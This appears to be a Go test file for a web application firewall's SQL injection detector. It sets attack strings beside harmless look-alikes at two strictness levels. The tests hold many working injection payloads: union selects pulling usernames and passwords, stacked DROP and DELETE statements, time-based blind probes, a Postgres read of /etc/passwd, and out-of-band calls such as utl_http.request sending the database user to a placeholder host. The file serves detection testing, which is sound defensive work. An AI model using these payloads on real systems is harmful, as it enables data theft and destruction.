package detect

import (
	"testing"

	"github.com/lambdawaf/lambdawaf/agent/event"
)

// rawBody is a request body that arrived without a content type: the
// decoder yields it whole, with no key.
func rawBody(text string) event.Value {
	return event.Value{Part: event.PartBody, Location: "body", Text: text, Record: -1}
}

// sqliRule returns the rule of the first SQLi signal, or "".
func sqliRule(sigs []Signal) string {
	for _, s := range sigs {
		if s.Class == SQLi {
			return s.Rule
		}
	}
	return ""
}

// TestSQLiShapes puts each level-1 shape next to benign inputs that look
// like it. want is the rule expected at paranoia 1 ("" for none); level-1
// rules fire at paranoia 2 as well.
func TestSQLiShapes(t *testing.T) {
	e1 := New(Options{})
	e2 := New(Options{Paranoia: 2})
	cases := []struct {
		name string
		v    event.Value
		want string
	}{
		// statements that read or run what the server holds
		{"postgres copy from a server file", body("q", "copy myfile from '/etc/passwd';"), "sqli-lexer"},
		{"postgres copy with options", body("q", "copy t from 'c:\\data\\x.csv' with csv"), "sqli-lexer"},
		{"copy in a sentence", body("q", "copy it from '/home/me' and then paste"), ""},
		{"copy from a quoted name", body("q", `Copy it from "/home/me" please`), ""},
		{"db2 catalog", body("q", "select * from syscat.tabauth where grantee = current user;"), "sqli-libinjection"},
		// quote break-out, SQL, and a terminator
		{"pipe operand comment", body("var", "x'|email--"), "sqli-breakout"},
		{"minus operand comment", body("var", "x'-email--"), "sqli-breakout"},
		{"mod comment", body("var", "x' mod id--"), "sqli-breakout"},
		{"not like comment", body("var", "id'not like id--"), "sqli-breakout"},
		{"is not comment", body("var", "id'is not-id--"), "sqli-breakout"},
		{"sounds like", body("var", "'sounds like rowid--"), "sqli-breakout"},
		{"notnull", body("email", "z'or email notnull--"), "sqli-breakout"},
		{"ilike", body("email", "admin@juice-sh.op' and email ilike email--"), "sqli-breakout"},
		{"collate", body("var", "user'collate nocase--"), "sqli-breakout"},
		{"collate backticks", body("var", "user'collate`utf8mb4_general_ci`--"), "sqli-breakout"},
		{"or question", body("var", "a'or?--"), "sqli-breakout"},
		{"json call semicolon", body("email", `admin@juice-sh.op\' or json (id);`), "sqli-breakout"},
		{"glob semicolon", q("user", "admin@juice-sh.op' and password glob password;"), "sqli-breakout"},
		{"semicolon then statement", body("email", "x' or email~all(array[email]);analyze--"), "sqli-breakout"},
		{"string tautology", body("q", "'admin', '1'='1'"), "sqli-breakout"},
		{"or constant hash", body("test", "OR 1# "), "sqli-breakout"},
		{"contraction and dash", body("note", "don't-stop--"), ""},
		{"contraction prose", body("note", "it's 5 - 10 --"), ""},
		{"french elision", body("note", "l'eau or vin;"), ""},
		{"apostrophe in prose", body("note", "O'Brien and Smith -- partners"), ""},
		{"apostrophe no terminator", body("note", "Rock'n'roll or jazz"), ""},
		{"or without sql semicolon", body("note", "x'y or z;"), ""},
		{"quoted attribute", body("html", `name="x" value="y"`), ""},
		{"empty literals", body("csv", `""=""`), ""},

		// stacked statements
		{"semicolon drop", body("pay", ";drop"), "sqli-stacked"},
		{"semicolon update", body("pay", ";update users"), "sqli-stacked"},
		{"semicolon set var", body("pay", ";SET @OLD_SQL_MODE"), "sqli-lexer"},
		{"semicolon truncate", q("test", ";truncate[xx"), "sqli-stacked"},
		{"statement ended by comment", q("var", "DROP sampletable;--"), "sqli-stacked"},
		{"delete ended by comment", hdr("user-agent", "DELETE FROM users;--"), "sqli-stacked"},
		{"set var after call", body("var", "mod(1,1);SET @a=b'0111';prepare b from @a;execute b;"), "sqli-lexer"},
		{"semicolon word", body("css", ";updates are weekly"), ""},
		{"semicolon set prose", body("note", ";set the table"), ""},
		{"verb without terminator", body("note", "Drop me a line; thanks"), ""},

		// comment-obfuscated keywords
		{"split keyword", body("test", "DR/**/OP/*bypass deny listing*/sampletable"), "sqli-comment-keyword"},
		{"keyword then comment", body("test", "DROP/*comment*/sampletable"), "sqli-comment-keyword"},
		{"comment as blanks", body("test", "SELECT/*avoid-spaces*/password/**/FROM/**/Members"), "sqli-comment-keyword"},
		{"mime wildcard", body("accept", "application/*; charset=utf-8"), ""},
		{"code comment", body("code", "x = a /* the total */ + b"), ""},

		// procedures and packages
		{"xp_dirtree", body("pay", "exec master..xp_dirtree '//x/a'"), "sqli-lexer"},
		{"utl_http", body("q", "utl_http.request('http://x/'||user)"), "sqli-libinjection"},
		{"utl_inaddr", body("q", "x utl_inaddr.get_host_name"), "sqli-procedure"},
		{"openrowset", body("q", "select * from OPENROWSET('SQLOLEDB','x';'sa';'p','select 1')"), "sqli-lexer"},
		{"msdasql key", q("'msdasql'", ""), "sqli-procedure"},
		{"procedure with a blank", body("q", "see xp_regread"), "sqli-procedure"},
		{"provider", body("q", "sqloledb provider"), "sqli-procedure"},
		{"procedure name in prose", body("note", "the xp_dirtreehouse is open"), ""},

		// subqueries
		{"subquery count", body("q", "from(select count(*),concat((select (select (SELECT concat(user_name,0x7c,password) FROM ecs_admin_user desc limit"), "sqli-lexer"},
		{"subquery star", q("var", "in ( select * from"), "sqli-lexer"},
		{"select hex", body("var", "select 0x616263"), "sqli-lexer"},
		{"select all that apply", body("note", "Pick one (select all that apply)"), ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := sqliRule(e1.Inspect(c.v, nil))
			if got != c.want {
				t.Errorf("paranoia 1: %q: got rule %q, want %q", c.v.Text, got, c.want)
			}
			if c.want != "" && sqliRule(e2.Inspect(c.v, nil)) == "" {
				t.Errorf("paranoia 2 misses %q", c.v.Text)
			}
		})
	}
}

// TestSQLiFragments checks the level-2 fragments: found at paranoia 2,
// never at paranoia 1, and benign look-alikes passed at both.
func TestSQLiFragments(t *testing.T) {
	e1 := New(Options{})
	e2 := New(Options{Paranoia: 2})
	cases := []struct {
		name   string
		v      event.Value
		attack bool
	}{
		{"and comparison", body("pay", "AND 6698=("), true},
		{"or open literal", body("pay", "OR backend_layout= '"), true},
		{"or double quote", body("pay", "or class!=\""), true},
		{"pipes comparison", body("pay", "|| langCode == '"), true},
		{"ampersands paren", body("pay", "&&(c=!0)"), true},
		{"having", body("q", "HAVING 1="), true},
		{"literal equality", q("a", "1=1"), true},
		{"literal after comma", q("a", "b,1=1"), true},
		{"like literals", body("a", "42 like 42"), true},
		{"is not literals", q("a", "1 is not 2"), true},
		{"not regexp", body("a", "'1' not regexp '2'"), true},
		{"as from", rawBody(") AS orders FROM"), true},
		{"when then", body("var", ") when 234 then"), true},
		{"from clause", rawBody("FROM termine GROUP BY tag1"), true},
		{"select case", rawBody("SELECT (CASE"), true},
		{"values tuple", rawBody("VALUES ('192.168.0.1', 'test')"), true},
		{"except select", q("var", "except \tselect.1,2"), true},
		{"set var", rawBody(">SET @OLD_SQL_NOTES"), true},
		{"create table", body("a", "/CREATE TABLE Persons"), true},
		{"quote union", rawBody("'UNION A"), true},
		{"quote regexp", body("pay", "` REGEXP "), true},
		{"escaped quote and", body("var", `\'and`), true},
		{"like open", q("var", "something LIKE '"), true},
		{"dangling or", body("pay", "/Cm7 OR "), true},
		{"dangling and paren", body("pay", "/3 and("), true},
		{"is null", rawBody("IS NULL"), true},
		{"in list", rawBody("in (0,1)"), true},
		{"subquery open", body("vendor", "(SELECT"), true},
		{"compared with subquery", body("var", "@.= ( SELECT"), true},
		{"typographic quotes", body("id", "1’ OR ’1’=’x’#;--()"), true},

		{"prose and", body("note", "and then we left"), false},
		{"prose or", body("note", "or maybe tomorrow"), false},
		{"math sentence", body("note", "2 + 2 makes 4"), false},
		{"search phrase", body("q", "rock and roll"), false},
		{"from prose", body("q", "From London to Paris"), false},
		{"from where prose", body("q", "from here to where"), false},
		{"in year", body("q", "in (2019)"), false},
		{"as prose", body("q", "known as John from Leeds"), false},
		{"create prose", body("q", "create a table for four"), false},
		{"quote prose", body("q", "'Tis the season"), false},
		{"typographic prose", body("q", "It’s John’s turn"), false},
		{"version", body("v", "1.2.3"), false},
		{"date", body("d", "2024-01-02"), false},
		{"key value", body("kv", "color=blue"), false},
		{"equation words", body("note", "Total = price x qty"), false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s1 := e1.Inspect(c.v, nil)
			s2 := e2.Inspect(c.v, nil)
			if c.attack {
				if !hasClass(s2, SQLi) {
					t.Errorf("paranoia 2 misses %q", c.v.Text)
				}
				if r := sqliRule(s1); r == "sqli-fragment" {
					t.Errorf("paranoia 1 ran the level-2 rule on %q", c.v.Text)
				}
				return
			}
			if hasClass(s1, SQLi) || hasClass(s2, SQLi) {
				t.Errorf("benign %q: paranoia 1 %s, paranoia 2 %s", c.v.Text, classes(s1), classes(s2))
			}
		})
	}
}

// TestSQLiRawBodyFields checks that a body sent without a content type is
// also judged as the form an application may parse it as (the decoder
// reads it so: each field on its own, '+' a blank).
func TestSQLiRawBodyFields(t *testing.T) {
	e2 := New(Options{Paranoia: 2})
	e1 := New(Options{})
	cases := []struct {
		text   string
		p1, p2 bool
	}{
		{"pay=AND+2771=1709)", false, true},
		{"pay=;drop", true, true},
		{"pay=@example.com&name=(select", false, true},
		// every form parser (parse_qs, PHP's, ModSecurity's) splits at
		// each '&': "(l" is a name and "!0)" its value, no condition
		{"pay=&&(l=!0)", false, false},
		// percent-encoded whole, as CRS's tests send it: the application
		// that decodes the body parses the form it holds
		{"pay%3D%3Bdrop", true, true},
		{"'select+H\n", false, true},
		{"pay=x'|email--", true, true},
		{"name=Ann+Lee&city=Paris", false, false},
		{"a=1&b=2", false, false},
		{"hello+world", false, false},
	}
	for _, c := range cases {
		req := &event.Request{Trigger: event.APIGatewayHTTP, Method: "POST", Body: []byte(c.text)}
		if got := hasClass(judgeWalk(t, e1, req), SQLi); got != c.p1 {
			t.Errorf("paranoia 1 %q: got %v, want %v", c.text, got, c.p1)
		}
		if got := hasClass(judgeWalk(t, e2, req), SQLi); got != c.p2 {
			t.Errorf("paranoia 2 %q: got %v, want %v", c.text, got, c.p2)
		}
	}
}

// FuzzSQLiParanoid reaches the level-2 fragments through Inspect, on a
// body value with no key and on a named one.
func FuzzSQLiParanoid(f *testing.F) {
	for _, s := range []string{"pay=AND+1=1", "x'|email--", ") as x from", "DR/**/OP", "1’ OR ’1’=’x’#", "a=1&b=(select", ";set @a=1", "in (0,1)", "/3 or "} {
		f.Add(s)
	}
	e := New(Options{Paranoia: 2})
	f.Fuzz(func(t *testing.T, s string) {
		for _, v := range []event.Value{rawBody(s), body("q", s)} {
			checkSignals(t, e, v)
		}
	})
}

// TestSQLiPlain checks the judgement of plain values (no punctuation to
// break out with), which the engine's plain path calls.
func TestLibinjectionReadsProseAsProse(t *testing.T) {
	runLevelCases(t, []levelCase{
		{"quoted slash in a paragraph", body("doc", "If charmapfile contains a slash character ('/'), it is interpreted as the name of the character map. Otherwise, the file is sought in the current directory."), "", ""},
		{"markdown options list", body("doc", "- `user` || `username` - `pass` || `password` - `sendImmediately` (optional) - `bearer` (optional)"), "", ""},
		{"string breakout", q("id", "1' || 'a'='a"), "*", "*"},
		{"typescript import", body("code", "import { Command } from '@commander-js/extra-typings';"), "", ""},
		{"method chain of a CLI program", body("code", "program\n  .option('-f, --foo', 'enable some foo');\n\nprogram.addHelpText('after', `\n\nExample call:\n  $ custom-help --help`);"), "", ""},
		{"postgres function cast", q("id", "function(foo)::double precision"), "*", "*"},
		{"oracle package call", q("id", "1 AND 4821=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),5)"), "*", "*"},
		{"blind subquery with long names", q("id", "1 AND 4821=(SELECT COUNT(*) FROM RDB$FIELDS AS T1,RDB$TYPES AS T2,RDB$COLLATIONS AS T3)"), "*", "*"},
		{"prose padding before a union", q("q", "nice product thanks a lot' UNION SELECT username, password FROM users--"), "*", "*"},
		{"breakout into exists", q("search", "' or (EXISTS)"), "*", "*"},
		{"breakout into a bare select", q("search", "'or select *"), "*", "*"},
		{"breakout into a subquery", q("search", "' (select top 1"), "*", "*"},
		{"possessive before a parenthesis", body("note", "the students' (select ones) go first"), "", ""},
		{"list of manual pages", body("doc", "ascii(7), charsets(7), iso_8859-3(7), utf-8(7)"), "", ""},
		{"numeric tautology without an operator", q("id", "1) or (1"), "*", "*"},
	})
	for _, c := range []struct {
		s    string
		want int
	}{{"1' or 'a'='a", 8}, {"read(2) from an inotify(7) file descriptor (since linux 3.8; beforehand, always failed with eintr).", 0}} {
		if got := libinjectionScore(c.s); got != c.want {
			t.Errorf("libinjectionScore(%q) = %d, want %d", c.s, got, c.want)
		}
	}
}

func TestSQLiPlain(t *testing.T) {
	cases := []struct {
		text   string
		p1, p2 string // rule at paranoia 1 and 2, "" for none
	}{
		{"xp_dirtree", "sqli-procedure", "sqli-procedure"},
		{"sp_password", "sqli-procedure", "sqli-procedure"},
		{"UTL_HTTP", "sqli-procedure", "sqli-procedure"},
		{"OPENROWSET", "sqli-procedure", "sqli-procedure"},
		{"Xunionselectfrom", "sqli-lexer", "sqli-lexer"},
		{"2.2250738585072011e-308", "sqli-magic-number", "sqli-magic-number"},
		{"4294967296", "", "sqli-magic-number"},
		{"2147483647", "", "sqli-magic-number"},
		{"open rowset", "", ""},
		{"xp_points", "", ""},
		{"reunion select committee", "", ""},
		{"4294967297", "", ""},
		{"2.5e-3", "", ""},
		{"my_dbms_pipeline", "", ""},
	}
	for _, c := range cases {
		for lvl, want := range map[int]string{1: c.p1, 2: c.p2} {
			e := New(Options{Paranoia: lvl})
			in := input{e: e, v: body("f", c.text), text: c.text, sc: new(scratch)}
			in.mask = scanMask(c.text)
			if !in.mask.plain() {
				t.Fatalf("%q is not a plain value", c.text)
			}
			in.detectSQLiPlain()
			if got := sqliRule(in.dst); got != want {
				t.Errorf("paranoia %d: %q: got %q, want %q", lvl, c.text, got, want)
			}
		}
	}
}
